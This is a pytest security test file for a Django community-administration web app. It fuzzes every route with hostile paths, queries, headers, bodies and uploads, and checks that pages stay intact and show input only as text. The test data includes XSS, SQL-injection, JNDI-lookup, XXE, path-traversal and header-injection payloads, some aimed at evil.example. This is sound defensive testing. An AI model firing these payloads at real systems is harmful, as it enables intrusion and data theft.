"""Whatever arrives — in the path, the query, the head, the body — nothing breaks, nothing is half written, and what
is shown again is shown as words. Made from the resolver, so that a new address is covered the day it is added."""

import re
from html.parser import HTMLParser
from itertools import product
from urllib.parse import parse_qsl, unquote_to_bytes, urlencode, urlsplit

import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import DataError, IntegrityError, connection, models, transaction
from django.db.models import Q
from django.test import Client
from django.urls import get_resolver, reverse
from django.utils import timezone

from assessments.models import BranchReport
from branches.models import CaseMember
from members import census
from members.models import CensusReturn
from office.imports.models import ImportBatch
from office.papers.models import Build
from tests.branches import case_cast, election_cast, territory_cast
from tests.conftest import WRITES, _NoWrites
from tests.documents import cast as documents_cast
from tests.test_access import READERS, arguments, query, rows
from tests.test_house import all_views

pytestmark = pytest.mark.django_db
HAN = re.compile(r"[一-鿿]")
SCRIPT = "<script>alert(1)</script>"
BREAKOUT = "\"'><img src=x onerror=alert(1)><!--"
LONG, ENDLESS = "张" * 10_000, "9" * 60
# 每一种来路有几种写法。一个地址每一种试一个写法，各地址轮着来：几百个地址下来，每个写法都试过许多遍。
KINDS = [
    # 在别处有意思的话：网页、模板、日志、表格、查询、路径
    [SCRIPT, "{{ settings.SECRET_KEY }}{% debug %}", "' OR 1=1 --", BREAKOUT, '=HYPERLINK("http://evil.example")']
    + ["${jndi:ldap://evil.example/a}", "1); DROP TABLE members_member; --", "%' ESCAPE '", "../../../etc/passwd"],
    ["\x00", "王\x00伟"],
    [LONG],
    ["²", "١٢٣", "１２３"],
    ["😀👨‍👩‍👧", "\u202e反过来\u200b"],
    ["a\r\nSet-Cookie: evil=1", "javascript:alert(1)", "//evil.example/", "https://evil.example/"],
    ["[]", "-1", "0", "1.5", "null"],
    [ENDLESS, "1e309", "9223372036854775808", "NaN", "2147483648", "9223372036854775807"],
    ["2026-02-30", "99999-12-31", "2026-13-01", "2100年12月31日", "0000-00-00", "9999-12-31", "30月2日", "1900-01-01"],
    ["~", "2026-02-30~1", "~~1", f"1~{'9' * 30}", "x~1", f"2026-01-01~{'9' * 17}", "\x00~1", "9999-12-31~1", "~²"],
]
# 一项一项单独试的：别的都照常填，这一项收下了就真的写进去。
WORDS = [
    [f"{SCRIPT}{BREAKOUT}😀👨‍👩‍👧\u202e反过来\u200b²\r\nSet-Cookie: evil=1", "²"],
    ["王\x00伟"],
    [LONG],
    [ENDLESS],
]
KEYS = [["\x00"], ["-1", "2026-02-30", "²"], ["9223372036854775808", ENDLESS], ["x~1", "//evil.example/"]]
CHOICES = [[SCRIPT, "²"], ["\x00"], [ENDLESS]]  # 只能从列出的里选的，错法不多
# 换一种数据库，答案会不同的只有这几样：存不进的字、太长的字、太大的数。
MINDED_BY_A_DATABASE = {"王\x00伟", "\x00", LONG, ENDLESS, "9223372036854775808"}
# 网址里该是编号的地方。
IDS = ["0", "9223372036854775808", "9" * 100]
NO_IDS = ["-1", "²", "٣", "1%00", "%00", "abc", "1.0", "1e3", "%F0%9F%98%80", "%FF"]
# 第二步才出表单的页面，要走到第二步。
NEEDS = {
    "assignment_new": lambda place: {"role": "branch_secretary"},
    "body_post_new": lambda place: {"title": "grid_worker"},
    "case_new": lambda place: {"kind": "joint", "compound": f"{place.compound['湖畔'].pk},{place.compound['公园'].pk}"},
    "document_new": lambda place: {"kind": "minutes", "issuer": place.body["西塘镇"].pk},
    "post_new": lambda place: {"title": "secretary"},
}
# 各页之外，程序里认的查询参数。
KNOWN_PARAMETERS = ("after", "before", "next", "q", "tab", "view", "year", "community", "done", "what", "role", "model")
# 一件一件都有自己页面的：那一件的页面也找，不只是权限表里打开的那一件。
HOMES = {"case": case_cast.STATES, "document": documents_cast.TARGETS, "election": election_cast.STATES}
# 交的是另一个地址的表单：看过一遍再交的，写的时候自己存的。
AS_IN = {"draft_keep": "case_new", "person_pair_merge": "person_pair"}
# 剧组的页面上没有表单的那些：要填的项和照常的填法，空的是要写的话。什么也不填的是 {}。
FIELDS = {
    "candidate_edit": {"office": "secretary", "source": "source_selected", "written_on": "今天", "version": "1"}
    | dict.fromkeys(("political", "standing", "service", "conflicts", "opinion"), ""),  # 表要先打开（POST）
    "candidate_paper": {},
    "demo_reset": {},  # 只在试用时有
    "demo_switch": {"username": "user01"},
    "election_fewer": {"version": "1"},  # 差一两名才有
    "election_request": {},  # 选举有结果才有
    "import_again": {},  # 做到一半断了才有
    "import_errors": {},  # 大的表才有
    "logout": {},
    "material_request": {"year": ""},
    "slip_device_revoke": {},  # 用条登录过的设备才有
    "slip_unlock": {"password": "", "next": "/people/"},  # 用条登录的人才要
}
# 健康检查的 503 就是它的回答。
OWN_5XX = {"healthz"}
FIRST_DATABASE = connection.vendor == "sqlite"
ADDRESSES = [row[:3] for row in rows()]
PATTERNS = {name: pattern for name, pattern, _ in all_views(get_resolver().url_patterns)}


# ── What is looked at in every answer ──


class Markup(HTMLParser):
    """What in a page acts or leads away, and the forms on it."""

    ACTING = ("script", "iframe", "object", "embed", "base", "style")

    def __init__(self, text):
        super().__init__()
        self.live, self.forms, self.links, self._form = [], [], [], None
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self._look_for_life(tag, attrs)
        if tag == "form":
            self._form = {"method": attrs.get("method", "get").lower(), "action": attrs.get("action", ""), "fields": []}
            self.forms.append(self._form)
        elif tag in ("input", "select", "textarea") and self._form is not None and attrs.get("name"):
            self._form["fields"].append({"tag": tag, "type": attrs.get("type", tag), "options": [], **attrs})
        elif tag == "option" and self._form and self._form["fields"]:
            self._form["fields"][-1]["options"].append(attrs.get("value", ""))
        elif tag == "button" and self._form is not None and attrs.get("formaction"):
            self.forms.append(self._form | {"action": attrs["formaction"]})
        elif tag == "a":
            self.links.append(attrs.get("href") or "")

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None

    def _look_for_life(self, tag, attrs):
        if tag in self.ACTING and not (tag == "script" and (attrs.get("src") or "").startswith("/static/")):
            self.live.append(tag)
        self.live += [name for name in attrs if name.startswith("on") or name == "style"]
        for name in ("href", "src", "action", "formaction"):
            value = (attrs.get(name) or "").strip()
            if value and (value.startswith("//") or urlsplit(value).scheme not in ("", "tel", "mailto")):
                self.live.append(value)
        if tag == "img" and not (attrs.get("src") or "").startswith(("/", "data:image/")):
            self.live.append("img")


FRAMEWORK_WORDS = re.compile(r"该变量|这个字段|有效的值|>[A-Z][a-z]+(?: [a-z]+)*：")


def check(response, name, said):
    """The answer is whole and harmless. `said` tells which input it answers."""
    if name not in OWN_5XX:
        assert response.status_code < 500, said
    if response.status_code in (301, 302, 303, 307, 308):
        target = urlsplit(response["Location"])
        assert not target.netloc, f"{said} 把人送到了别处：{response['Location']}"
    assert "evil" not in response.cookies, said
    if response.streaming:
        response.getvalue()  # 读完，文件才关得上
        return None
    if not response.get("Content-Type", "").startswith("text/html") or not response.content:
        return None
    text = response.content.decode()
    page = Markup(text)
    assert not page.live, f"{said} 页面上有活的东西：{page.live[:3]}"
    assert "Traceback" not in text, said
    assert HAN.search(text), f"{said} 没有一个汉字"
    foreign = FRAMEWORK_WORDS.search(text)
    assert not foreign, f"{said} 用了框架自己的话：{foreign.group()}"
    return page


# apart from the session's clock, the counter of wrong passwords and what a refused form keeps as its writer's draft
TABLES = {m._meta.db_table for m in apps.get_models() if m._meta.app_label not in ("sessions", "axes", "drafts")}
TRAIL = {"audit_trail", "audit_trailhead"}  # 留痕和它的尾巴，总是一起写


def counts(tables=TABLES):
    """How many rows every table has."""
    if not tables:
        return {}
    with connection.cursor() as cursor:
        cursor.execute(" UNION ALL ".join(f"SELECT '{table}', COUNT(*) FROM {table}" for table in tables))
        return dict(cursor.fetchall())


class Written:
    """The tables that the statements run inside wrote to."""

    def __init__(self):
        self.tables = set()

    def __call__(self, execute, sql, params, many, context):
        if found := WRITES.match(sql):
            self.tables.add(found.group(1).lower())
        return execute(sql, params, many, context)


def undone(act):
    """The value of `act()`; what it wrote is taken back."""
    with transaction.atomic():
        value = act()
        transaction.set_rollback(True)
    return value


# ── Who asks, and for what: the table of tests/test_access.py ──


def new_client(place, reader, **settings):
    client = Client(**settings)
    if reader != "没有登录":
        client.force_login(place.user[reader], backend="django.contrib.auth.backends.ModelBackend")
    return client


def read(client, url, data=None, **extra):
    """A GET during which nothing may be written but the session's clock."""
    with connection.execute_wrapper(_NoWrites()):
        return client.get(url, data, **extra)


class Door:
    """One row of the table with the first reader whom it lets in (or whom it refuses, where it lets nobody in)."""

    def __init__(self, place, name, method, target, marks, reader=None):
        self.place, self.name, self.method, self.target = place, name, method, target
        self.readers = [reader] if reader else [READERS[at] for at, mark in enumerate(marks) if mark in "23"]
        self.readers = self.readers or READERS[:1]
        self.reader = self.readers[0]
        self.url = reverse(name, args=arguments(place, name, target))
        self.query = dict(parse_qsl(query(place, target).lstrip("?"))) | NEEDS.get(name, lambda place: {})(place)
        self.full = self.url + (f"?{urlencode(self.query)}" if self.query else "")
        self._cookies = self.before = None

    @property
    def number(self):
        return ADDRESSES.index((self.name, self.method, self.target))

    def one_of_each(self, kinds):
        """One spelling of each kind: another one at the next address."""
        return [spellings[self.number % len(spellings)] for spellings in kinds]

    def alone(self, field):
        """Payloads to be tried alone in the field: on a second database those it could take otherwise."""
        payloads = self.one_of_each(kinds_for(field))
        return payloads if FIRST_DATABASE else [each for each in payloads if each in MINDED_BY_A_DATABASE]

    def client(self, **settings):
        return new_client(self.place, self.reader, **settings)

    def same_client(self):
        """A client in the state of its first page, for requests that are each taken back."""
        if self.before is None:
            self._cookies, self.before = self.client().cookies.output(header="", sep=";"), counts()
        client = Client()
        client.cookies.load(self._cookies)
        return client

    def page(self):
        return check(self.client().get(self.full), self.name, f"{self.name} 原样")


def opened(method):
    """Test the rows of the table with that method, as `door`."""
    chosen = [row for row in rows() if row[1] == method]
    return pytest.mark.parametrize("row", chosen, ids=[f"{row[0]}-{row[2]}" for row in chosen])


@pytest.fixture
def door(place, row):
    return Door(place, *row)


# What is refused before a row is read, or read as any page is: the same on every database, so asked on one only.
on_any_database = pytest.mark.any_database

# ── Paths and methods ──


# 乱猜登录条要留痕、会锁住来源地址，见 tests/accounts/test_slips.py。
GUESSED = {"slip"}


@pytest.mark.parametrize(
    "name", sorted(name for name, pattern in PATTERNS.items() if "<" in pattern and name not in GUESSED)
)
def test_paths_that_name_nothing(place, name):
    clients = [new_client(place, reader) for reader in ("社区书记", "系统管理员", "没有登录")]
    before = counts()
    asked = [*product(IDS, clients, ("GET", "POST"))]
    if "<key:" in PATTERNS[name]:  # 不是编号的走不到页面，轮着问一遍就够
        asked += [(wrong, clients[at % 3], ("GET", "POST")[at % 2]) for at, wrong in enumerate(NO_IDS)]
    else:
        asked += product(NO_IDS, clients, ("GET", "POST"))
    for number, client, method in asked:
        path = "/" + re.sub(r"<\w+:\w+>", number, PATTERNS[name])
        said = f"{method} {path[:80]}"
        response = client.generic(method, path)
        check(response, name, said)
        assert response.status_code in (302, 400, 403, 404, 405), f"{said}：{response.status_code}"
        if response.status_code == 302:
            assert response["Location"].startswith("/login/"), said
    assert counts() == before


@pytest.mark.parametrize(
    "path",
    ["/x", "//evil.example/", "/%2e%2e/etc/passwd", "/%00", "/%FF%FE", "/😀/", "/people/%0d%0aSet-Cookie:evil=1/"]
    + ["/.git/config", "/static/../config/settings.py", "/static/%2e%2e/config/settings.py", "/admin/", "/people//"]
    + ["/" + "a" * 5000],
)
@pytest.mark.parametrize("reader", ["社区书记", "没有登录"])
@on_any_database
def test_paths_of_no_page(place, path, reader):
    response = new_client(place, reader).get("/", PATH_INFO=unquote_to_bytes(path).decode("latin-1"))
    check(response, "", path[:80])
    assert response.status_code in (301, 302, 400, 404), path[:80]


@opened("GET")
@on_any_database
def test_methods_the_address_does_not_know(door):
    client = door.client()
    before = counts()
    for method in door.one_of_each([["PUT", "PATCH", "DELETE"], ["TRACE", "OPTIONS"], ["PROPFIND", "X" * 40]]):
        assert client.generic(method, door.full).status_code in (403, 405), method
    got, headed = client.get(door.full), client.head(door.full)
    check(got, door.name, "GET")
    check(headed, door.name, "HEAD")
    assert headed.status_code in (got.status_code, 405)
    assert counts() == before


@opened("POST")
@on_any_database
def test_a_form_from_elsewhere_is_refused(door):
    before = counts()
    response = door.client(enforce_csrf_checks=True).post(door.full, {"text": "写了很久的一段话，不该丢"})
    page = check(response, door.name, "没有令牌")
    assert response.status_code == 403
    assert page is not None
    assert counts() == before


# ── Queries ──


def parameters(door):
    """{name: its field} of every query the page's own forms and links use."""
    page, key = door.page(), {"type": "hidden"}
    names = dict.fromkeys(door.query, key)
    for link in page.links if page else []:
        if urlsplit(link).path in ("", door.url):
            names |= dict.fromkeys(dict(parse_qsl(urlsplit(link).query, keep_blank_values=True)), key)
    for form in page.forms if page else []:
        if form["method"] == "get" and form["action"] in ("", door.url):
            names |= {each["name"]: each for each in form["fields"]}
    return names


def kinds_for(field):
    if field["type"] in ("select", "radio", "checkbox"):
        return CHOICES
    return KEYS if field["type"] == "hidden" else WORDS


def rotated(names, payloads):
    """As many data as there are payloads, in which every name once has each of them."""
    for turn in range(len(payloads) if names else 0):
        yield {name: payloads[(turn + at) % len(payloads)] for at, name in enumerate(names)}


@opened("GET")
def test_hostile_queries(door):
    client = door.client()
    for name, field in parameters(door).items():
        for payload in door.alone(field):
            said = f"{door.url}?{name}={payload[:40]!r}"
            check(read(client, door.url, door.query | {name: payload}), door.name, said)


@opened("GET")
@on_any_database
def test_hostile_queries_together(door):
    client = door.client()
    names, payloads = parameters(door), door.one_of_each(KINDS)
    for data in rotated([*names, *KNOWN_PARAMETERS] if names else (), payloads):
        check(read(client, door.url, data), door.name, f"{door.url} {str(data)[:300]}")
    for payload in door.one_of_each(CHOICES):
        said = f"{door.url} 各参数都是 {payload[:40]!r}"
        check(read(client, door.url, dict.fromkeys(KNOWN_PARAMETERS, payload) | door.query), door.name, said)


@opened("GET")
@on_any_database
def test_queries_that_are_no_queries(door):
    client = door.client()
    for text in ("%&%FF=%FE&q[]=1&q[$ne]=x&a=1;b=2", "q=%00&q=1&q=&&&&=&" + "=" * 500, "after=1~1&after=~&after"):
        check(read(client, f"{door.url}?{text}"), door.name, text[:40])
    many = "&".join(f"a{number}=1" for number in range(5000))
    check(read(client, f"{door.url}?{many}"), door.name, "五千个参数")


# ── Heads ──

HEADS = [
    [{"HTTP_HOST": host} for host in ("evil.example", "evil.example:99999", "<script>", "a\x00b", "")],
    [
        {
            "HTTP_X_FORWARDED_HOST": "evil.example",
            "HTTP_X_FORWARDED_PROTO": "gopher",
            "HTTP_X_FORWARDED_FOR": "x, 999.1",
        },
        {"REMOTE_ADDR": "no address"},
    ],
    [
        {"HTTP_ACCEPT_LANGUAGE": "xx-" + "y" * 5000 + ";q=abc,\x00"},
        {
            "HTTP_ACCEPT": "\x00",
            "HTTP_ACCEPT_ENCODING": "x" * 5000,
            "HTTP_IF_MODIFIED_SINCE": "²",
            "HTTP_RANGE": "bytes=9-1",
        },
    ],
    [
        {"HTTP_REFERER": referer}
        for referer in ("http://[::1", SCRIPT, "http://testserver/" + "张" * 3000, "javascript:alert(1)")
    ],
    [{"HTTP_REFERER": "http://testserver/people/?q=王伟"}],
    [
        {"HTTP_COOKIE": "session=" + "a" * 8000},
        {"HTTP_COOKIE": 'session=\x00; csrf=²; text_size=<script>; messages=[["x"; =; ;;'},
        {"HTTP_COOKIE": "session=../../etc/passwd; text_size=" + "xl" * 500},
    ],
    [{"QUERY_STRING": "\xff\xfe%"}],
]


@opened("GET")
@on_any_database
def test_hostile_heads(door):
    """Heads are read before the page is: one comes from the door's reader, the next from nobody signed in, and the
    other way round at the next address."""
    for at, head in enumerate(door.one_of_each(HEADS), door.number):
        reader = (door.reader, "没有登录")[at % 2]
        said = f"{door.name} {reader} {str(head)[:60]}"
        response = new_client(door.place, reader).get(door.full, **head)
        check(response, door.name, said)
        assert response.status_code in (200, 302, 400, 403, 404, 503), said


# ── Bodies ──

ORDINARY = {"phone": "13800138000", "username": "zhaoliu", "password": "wrong-Password-1", "token": None}
ORDINARY_TEXT = "按上级要求核对名册"


def report(place, **fields):
    """湖畔's report, written to the end."""
    written = {"problem": "电梯老了", "cause": "钱不够", "plan": "再协商"} | fields
    BranchReport.objects.filter(branch=place.body["湖畔党支部"]).update(**written)


def handed_in(place):
    report(place, state="submitted", submitted_at=timezone.now(), submitted_by=place.user["支部书记"])


def batch(place, **fields):
    """北社区's file, as far as the fields say."""
    (pk,) = arguments(place, "import_batch", "湖畔")
    ImportBatch.objects.filter(pk=pk).update(**fields)
    return ImportBatch.objects.get(pk=pk)


def asked(place):
    found = batch(place, asking=1, faulty=0)
    found.questions.create(key="who", row=2, text="是同一个人吗？", choices=[["y", "是"], ["n", "不是"]])


def made(place, **fields):
    """A batch of papers, and its paper, as the fields say."""
    (pk,) = arguments(place, "material_batch", "湖畔")
    Build.objects.filter(Q(pk=pk) | Q(batch=pk)).update(file="", file_name="", sha256="", size=None, **fields)


def confirmed(place):
    (pk,) = arguments(place, "census_withdraw", "湖畔")
    part = CensusReturn.objects.get(pk=pk)
    census.confirm(part, note="", by=place.user["社区书记"])


# 要先有这些，页面上才有表单。
ARRANGED = {
    "cases_export": case_cast.case,
    "coverage_export": lambda place: arguments(place, "coverage_note", "空地"),
    "cells_export": territory_cast.cell,
    "funding_export": territory_cast.fund,
    "guidance_export": territory_cast.visit,
    "guidance_new": territory_cast.group,
    "patches_export": territory_cast.patch,
    "rooms_export": lambda place: arguments(place, "room_edit", "湖畔"),
    "case_members": lambda place: CaseMember.objects.create(case=case_cast.case(place), member=place.member["何静"]),
    "census_withdraw": confirmed,
    "import_answer": asked,
    "import_apply": lambda place: batch(place, new=1),
    "material_cancel": lambda place: made(place, state="queued", finished_at=None),
    "material_retry": lambda place: made(place, state="failed", error="断电了"),
    "report_offer": lambda place: report(place, filled_by=place.user["联系干部"], filled_at=timezone.now()),
    "report_submit": report,
    "report_receive": handed_in,
    "report_return": handed_in,
}


def own_forms(door):
    """The forms that are sent to this address, from the first page of a reader's that shows them."""
    if door.name in FIELDS:
        return [{"fields": [_typed(*each) for each in FIELDS[door.name].items()]}]
    ARRANGED.get(door.name, lambda place: None)(door.place)
    shown = AS_IN.get(door.name, door.name)
    goal = reverse(shown, args=arguments(door.place, door.name, door.target))
    for (name, target, marks), reader in product(pages_near(shown, door.target), door.readers):
        if marks[READERS.index(reader)] != "2":
            continue
        there = Door(door.place, name, "GET", target, marks, reader=reader)
        page = there.page()
        if found := [form for form in page.forms if sent_to(form, there.url) == goal] if page else ():
            door.reader = reader
            return found
    raise AssertionError(f"没有一页有交到 {door.name} 的表单：在 ARRANGED 里摆好，或者写进 FIELDS")


def _typed(name, value):
    return {"tag": "input", "type": "hidden" if value else "text", "name": name, "value": value}


def pages_near(name, target):
    """(name, target, marks) of the pages named with a word of the address's name, those named most like it first."""
    home = name.partition("_")[0]
    own = [(home, target, "2" * len(READERS))] if target in HOMES.get(home, ()) else []
    near = [(row[0], row[2], row[3]) for row in rows() if row[1] == "GET" and parts(row[0]) & parts(name)]
    return own + sorted(near, key=lambda page: (page[0] != name, -len(parts(page[0]) & parts(name))))


def parts(name):
    return {word.rstrip("s") for word in name.split("_")}


def sent_to(form, url):
    return form["method"] == "post" and (form["action"].partition("?")[0] or url)


def ordinary(form):
    """What a reasonable person would fill in."""
    data = {}
    for each in form["fields"]:
        data.setdefault(each["name"], ordinary_value(each))
    data.pop("csrfmiddlewaretoken", None)
    return {key: value for key, value in data.items() if value is not None}


def ordinary_value(each):
    if each["type"] == "file":
        return SimpleUploadedFile("名册.xlsx", b"not a workbook")
    if each["tag"] == "select":
        return next((value for value in each["options"] if value), "")
    if each["type"] in ("hidden", "radio", "checkbox"):
        return each.get("value", "")
    if each["name"].endswith(("_on", "on")):
        return "今天"
    return ORDINARY.get(each["name"]) or ORDINARY_TEXT


def send(door, data, said, **extra):
    """Post it: refused means that no row was added or taken away. What was written is undone."""

    client = door.same_client()

    def act():
        written = Written()
        with connection.execute_wrapper(written):
            response = client.post(door.full, data, **extra)
        check(response, door.name, said)
        refused = response.status_code >= 400 or (not response.streaming and b'id="errors"' in response.content)
        if refused:
            now = counts(written.tables & TABLES)
            changed = {table for table, count in now.items() if count != door.before[table]}
            # 记下被拒绝的登录，是规矩本身。
            assert changed <= (TRAIL if door.name in ("login", "password_change") else set()), said
        return response

    return undone(act)


@opened("POST")
def test_hostile_fields(door):
    for form in own_forms(door):
        base = ordinary(form)
        send(door, base, f"{door.name} 照常填写")
        for each in one_of_a_kind(form["fields"]):
            if each["name"] in base:
                send_alone(door, base, each)
        for data in rotated(base, door.one_of_each(KINDS)) if FIRST_DATABASE else ():
            send(door, data, f"{door.name} {str(data)[:300]}")


def send_alone(door, base, field):
    """Everything as usual but for this field."""
    name, said = field["name"], f"{door.name} 的 {field['name']}"
    for payload in door.alone(field):
        send(door, base | {name: payload}, f"{said}={payload[:40]!r}")
    if FIRST_DATABASE:
        send(door, {k: v for k, v in base.items() if k != name}, f"{said} 没有送来")
        send(door, base | {name: ["a", "b", SCRIPT]}, f"{said} 有三个")


def one_of_a_kind(fields):
    """The fields, of those that differ in a number only (the marks of thirty people) the first."""
    return {re.sub(r"[0-9]+", "#", each["name"]): each for each in reversed(fields)}.values()


FORM = "application/x-www-form-urlencoded"
FILE = b'--x\r\nContent-Disposition: form-data; name="file"; filename="../../a.xlsx"\r\n\r\n'
BODIES = [
    [
        ("application/json", b'{"a": [1, 2'),
        ("text/xml", b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
        ("", b"\x00" * 100),
    ],
    [(FORM, b"\xff\xfe%zz&&=&a=%00"), (f"{FORM}; charset=no-such", b"a=1")],
    [
        ("multipart/form-data", b"no boundary"),
        ("multipart/form-data; boundary=x", FILE),
        ("multipart/form-data; boundary=\xff", b"--x--"),
    ],
    [(FORM, b"&".join(b"a%d=1" % n for n in range(2500)))],
    [(FORM, b"text=" + b"a" * 3_000_000)],
]


@opened("POST")
@on_any_database
def test_bodies_that_are_no_forms(door):
    before = counts()
    for kind, body in door.one_of_each(BODIES):
        said = f"{door.name} {kind} {body[:20]!r}"
        client = door.client()
        response = undone(lambda c=client, b=body, k=kind: c.generic("POST", door.full, b, content_type=k))
        check(response, door.name, said)
    assert counts() == before


UPLOADS = {
    "空.xlsx": b"",
    "名册.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "名册.xlsx": b"PK\x03\x04" + b"\x00" * 200,
    "../../../名册.xlsx": b"PK\x05\x06" + b"\x00" * 18,
    "名\x00册.xlsx": b"<html>",
    "张" * 300 + ".xlsx": b"a,b,c",
    "脚本.exe": b"MZ",
}


@pytest.mark.parametrize("file_name", UPLOADS, ids=lambda name: name[:12].replace("\x00", "0"))
def test_hostile_uploads(place, file_name):
    door = Door(place, *next(row for row in rows() if row[:2] == ("roster_import", "POST")))
    door.reader = "社区书记"  # 只管一个社区，不用先选
    response = send(door, {"file": SimpleUploadedFile(file_name, UPLOADS[file_name])}, file_name[:12])
    assert response.status_code == 200
    assert b'id="errors"' in response.content


# ── What is stored ──


NO_WORDS = ("password", "id_sealed")  # 密文，写不进字
CODES = ("ImportBatch.kind", "ImportAnswer.kind", "VenueDetail.item")  # 代码里的键，不是谁写的字


def poison():
    """Hostile words in every free text of every row, as far as the column takes them; the columns that took them."""
    poisoned = set()
    for model in apps.get_models():
        if model._meta.app_label in ("sessions", "contenttypes", "auth", "axes", "audit"):
            continue
        for field in model._meta.concrete_fields:
            is_text = isinstance(field, (models.CharField, models.TextField))
            if f"{model.__name__}.{field.name}" in CODES:
                continue
            if is_text and not (field.choices or field.unique or field.name in NO_WORDS):
                room = (field.max_length or 1000) - 8
                words = next(w for w in (SCRIPT, BREAKOUT, "<i>", "") if len(w) <= room or not w)
                if words and put(model, field, words):
                    poisoned.add(f"{model.__name__}.{field.name}")
    return poisoned


def put(model, field, words):
    """Write the words and the row's number into the column of every row, past all deeds; False where the database
    refuses it."""
    table, column, key = model._meta.db_table, field.column, model._meta.pk.column
    try:
        with transaction.atomic(), connection.cursor() as cursor:
            cursor.execute(f'UPDATE {table} SET "{column}" = %s || CAST("{key}" AS varchar(8))', [words])
            return cursor.rowcount > 0
    except (IntegrityError, DataError):
        return False


@on_any_database
def test_what_is_stored_is_shown_as_words(place):
    doors = [Door(place, *row) for row in rows() if row[1] == "GET"]
    marks = {(row[0], row[2]): row[3] for row in rows() if row[1] == "GET"}
    poisoned = poison()
    assert {"Person.name", "Compound.name", "Meeting.title", "Decision.text", "User.name"} <= poisoned
    shown = set()
    for at, reader in enumerate(READERS):
        client = new_client(place, reader)
        for door in doors:
            if marks[door.name, door.target][at] == "2":
                response = client.get(door.full, {"q": "<"} if door.name == "find" else None)
                page = check(response, door.name, f"{door.name}，读者 {reader}")
                if page and b"&lt;script&gt;" in response.content:
                    shown.add(door.name)
    assert {"home", "compound", "branch", "committee", "meeting", "person", "members", "find", "materials"} <= shown
